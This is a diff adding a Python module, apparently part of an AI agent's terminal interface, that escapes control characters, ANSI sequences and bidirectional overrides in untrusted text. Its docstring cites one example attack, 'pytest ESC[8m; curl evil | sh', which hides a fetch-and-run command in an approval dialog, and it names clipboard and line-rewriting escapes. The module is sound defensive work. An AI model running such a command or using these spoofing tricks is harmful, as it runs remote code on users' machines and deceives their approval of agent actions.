@@ -1,0 +1,33 @@
+"""Text someone else wrote, made safe to show: every character a terminal would act on is shown, not obeyed.
+
+A repository's config, a shipped store, a file a command printed or a model's reply can hold escape
+sequences.  Printed raw, ``ESC[8m`` hides the rest of a line (``pytest ESC[8m; curl evil | sh`` reads
+as ``pytest`` in an approval dialog), ``ESC[2K`` with ``\\r`` rewrites the line the user is reading
+(an MCP server's command line in ``agent-tui trust``), ``ESC]52`` writes the clipboard, and some
+terminals answer queries by typing into the shell once agent-tui exits.  Bidirectional overrides
+(U+202E…) reorder what is shown.  :func:`printable` replaces each such character with a visible
+``\\xNN`` / ``\\uNNNN`` escape wherever a decision is made from the text or it goes to the terminal
+as is (the trust listing, the approval preview, headless output, ``agent-tui memory``).
+"""
+
+from __future__ import annotations
+
+import re
+
+_UNSAFE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
+                     "|\r(?!\n)")
+"""C0 controls except tab, newline and a CRLF's CR, DEL, C1 controls, bidirectional marks and overrides."""
+_UNSAFE_LINE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
+"""The same, and tab and newline too (for one-line text)."""
+
+
+def _show(match: re.Match[str]) -> str:
+    code = ord(match.group())
+    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
+
+
+def printable(text: str, *, newlines: bool = True) -> str:
+    """``text`` with every control, escape and direction character shown as ``\\xNN`` or ``\\uNNNN``
+    (``newlines=False``: tabs and newlines too); unchanged, and fast, when there is none."""
+    pattern = _UNSAFE if newlines else _UNSAFE_LINE
+    return pattern.sub(_show, text) if pattern.search(text) else text
